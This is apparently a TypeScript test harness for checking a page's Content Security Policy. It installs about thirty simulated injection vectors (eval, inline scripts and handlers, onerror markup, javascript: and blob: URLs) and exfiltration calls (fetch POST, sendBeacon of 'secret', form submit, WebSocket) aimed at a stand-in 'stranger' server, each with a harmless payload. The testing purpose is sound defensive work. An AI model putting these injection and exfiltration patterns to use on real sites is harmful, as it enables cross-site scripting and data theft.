/**
 * Attacks that injected code would try. A successful attack leaves its name in `done`, or a request to the stranger.
 */
declare global {
  interface Window {
    attacks: {
      readonly names: string[]
      /** Starts an attack as the page's own code, without the caller's extra rights. */
      start(name: string): void
      /** The attacks that ran code or changed the page. */
      readonly done: string[]
    }
  }
}

interface Options {
  /** The origin of a server that the app never uses. */
  readonly stranger: string
}

export function install({ stranger }: Options): void {
  const at = (name: string) => `${stranger}/${name}`
  const code = (name: string) => `top.attacks.done.push(${JSON.stringify(name)})`
  const document = window.document
  const add = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag, attributes: Readonly<Record<string, string>>) => {
    const element = document.createElement(tag)
    for (const name of Object.keys(attributes)) element.setAttribute(name, attributes[name]!)
    return document.body.appendChild(element)
  }
  const blobUrl = (type: string, text: string) => URL.createObjectURL(new Blob([text], { type }))
  const note = (name: string, isDone: boolean) => void (isDone && window.attacks.done.push(name))
  /** Whether an element of that class has the colour of an injected style. */
  const isRed = (element: Element) => getComputedStyle(element).color === 'rgb(255, 0, 0)'
  const page = (name: string) => `<script>${code(name)}</script>`

  const attacks: Readonly<Record<string, (name: string) => void>> = {
    eval: (name) => void (0, eval)(code(name)),
    'new-function': (name) => void new Function(code(name))(),
    'timer-of-text': (name) => void setTimeout(code(name)),
    'inline-script': (name) => {
      const script = document.createElement('script')
      script.text = code(name)
      document.body.appendChild(script)
    },
    'inline-handler': (name) => add('button', { onclick: code(name) }).click(),
    'handler-in-markup': (name) => {
      add('div', {}).innerHTML = `<img src="data:," onerror='${code(name)}'>`
    },
    'javascript-link': (name) => add('a', { href: `javascript:void ${code(name)}` }).click(),
    'javascript-frame': (name) => void add('iframe', { src: `javascript:void ${code(name)}` }),
    'frame-of-text': (name) => void add('iframe', { srcdoc: page(name) }),
    'frame-of-blob': (name) => void add('iframe', { src: blobUrl('text/html', page(name)) }),
    'script-of-data': (name) => void add('script', { src: `data:text/javascript,${code(name)}` }),
    'script-of-blob': (name) => void add('script', { src: blobUrl('text/javascript', code(name)) }),
    'worker-of-blob': (name) => {
      const worker = new Worker(blobUrl('text/javascript', 'postMessage(1)'))
      worker.onmessage = () => note(name, true)
    },
    'inline-style': (name) => {
      const style = add('style', {})
      style.textContent = `.${name} { color: rgb(255, 0, 0) }`
      note(name, isRed(add('i', { class: name })))
    },
    'style-attribute': (name) => note(name, isRed(add('i', { style: 'color: rgb(255, 0, 0)' }))),
    base: (name) => {
      const base = add('base', { href: at(name) })
      note(name, document.baseURI === at(name))
      base.remove()
    },

    'script-elsewhere': (name) => void add('script', { src: at(name) }),
    'style-elsewhere': (name) => void add('link', { rel: 'stylesheet', href: at(name) }),
    'font-elsewhere': (name) => void new FontFace(name, `url(${at(name)})`).load().catch(() => undefined),
    'picture-elsewhere': (name) => void add('img', { src: at(name) }),
    'background-elsewhere': (name) => {
      add('i', { class: name }).style.cssText = `display: block; height: 9px; background: url(${at(name)})`
    },
    'sound-elsewhere': (name) => void add('audio', { src: at(name), preload: 'auto' }),
    'frame-elsewhere': (name) => void add('iframe', { src: at(name) }),
    'object-elsewhere': (name) => void add('object', { data: at(name), type: 'image/png' }),
    'form-elsewhere': (name) => add('form', { action: at(name), method: 'post' }).submit(),
    fetch: (name) => void fetch(at(name), { method: 'POST', mode: 'no-cors' }).catch(() => undefined),
    xhr: (name) => {
      const request = new XMLHttpRequest()
      request.open('GET', at(name))
      request.send()
    },
    beacon: (name) => void navigator.sendBeacon(at(name), 'secret'),
    'event-source': (name) => void new EventSource(at(name)),
    'web-socket': (name) => void new WebSocket(at(name).replace('http', 'ws')),
  }

  window.attacks = {
    names: Object.keys(attacks),
    start: (name) => void setTimeout(() => attacks[name]!(name)),
    done: [],
  }
}
